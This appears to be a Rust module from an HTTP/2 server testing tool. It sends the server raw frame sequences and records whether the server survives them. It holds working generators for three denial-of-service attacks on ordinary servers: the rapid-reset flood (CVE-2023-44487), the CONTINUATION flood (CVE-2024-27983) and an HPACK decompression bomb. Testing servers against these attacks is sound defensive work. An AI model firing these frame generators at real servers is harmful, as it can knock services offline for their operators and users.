//! HTTP/2 frame by frame.

use super::{Card, PATIENCE};
use std::{collections::BTreeSet, iter};
use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _},
    time::timeout,
};

/// What the server said to an attacker.
#[derive(Debug, Default)]
pub(crate) struct Said {
    /// The streams that it answered with 200.
    pub(crate) fine: BTreeSet<u32>,
    /// Whether it answered the last ping, so that the connection has survived.
    pub(crate) survived: bool,
}

/// Sends `frames` after the opening of a connection, and then a ping; returns what the server said until it answered that
/// ping or closed the connection. `None` if there was no connection, or no end.
pub(crate) async fn attack(
    card: &Card,
    address: &str,
    frames: impl Iterator<Item = Vec<u8>>,
) -> Option<Said> {
    let (read, mut write) = tokio::io::split(card.connect(address, "h2").await.ok()?);
    let write = async {
        for frame in iter::once(opening()).chain(frames).chain([frame(PING, 0, 0, LAST)]) {
            // A server that has had enough takes no more.
            if write.write_all(&frame).await.is_err() {
                break;
            }
        }
        let _ = write.flush().await;
    };
    let said = async { tokio::join!(write, listen(read)).1 };
    timeout(PATIENCE, said).await.ok()
}

/// Asks, and takes it back at once, `times` times.
// spec: CVE-2023-44487
pub(crate) fn rapid_reset(times: u32) -> impl Iterator<Item = Vec<u8>> {
    (0..times).map(|number| {
        let stream = 2 * number + 1;
        let ask = frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD);
        [ask, frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
}

/// Begins a head that does not end.
// spec: CVE-2024-27983
pub(crate) fn continuation(times: usize) -> impl Iterator<Item = Vec<u8>> {
    let more = frame(CONTINUATION, 0, 1, b"\0\x03x-a\x01b");
    iter::once(frame(HEADERS, END_STREAM, 1, HEAD)).chain(iter::repeat_n(more, times))
}

/// One field of 4 KB goes into the table, and is then named by a byte each: 12 KB that decode to 31 MB.
// spec: RFC 7541 5.1, 6.2.1
pub(crate) fn hpack_bomb() -> impl Iterator<Item = Vec<u8>> {
    let entry = [&[0x40, 3][..], b"x-a", &[0x7f, 0xa1, 0x1e], &[b'x'; 4_000]].concat();
    let bomb = [HEAD, &entry, &[0xbe; 8_000]].concat();
    iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb))
}

/// `GET / http replica`, compressed.
// spec: RFC 7541 appendix A
const HEAD: &[u8] = b"\x82\x86\x84\x41\x07replica";
/// `:status: 200`, compressed.
const FINE: u8 = 0x88;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
const LAST: &[u8] = b"the last";

// spec: RFC 9113 6
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    // No payload here is longer than the 16 KiB that a frame may have.
    let [_, length @ ..] = (payload.len() as u32).to_be_bytes();
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What every client of HTTP/2 begins with.
fn opening() -> Vec<u8> {
    [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(SETTINGS, 0, 0, &[])].concat()
}

async fn listen(mut read: impl AsyncRead + Unpin) -> Said {
    let mut said = Said::default();
    let mut opening = [0; 9];
    while !said.survived && read.read_exact(&mut opening).await.is_ok() {
        let [a, b, c, kind, flags, stream @ ..] = opening;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
        if read.read_exact(&mut payload).await.is_err() {
            break;
        }
        if kind == HEADERS && payload.first() == Some(&FINE) {
            said.fine.insert(u32::from_be_bytes(stream));
        }
        said.survived = kind == PING && flags == ACK && payload == LAST;
    }
    said
}
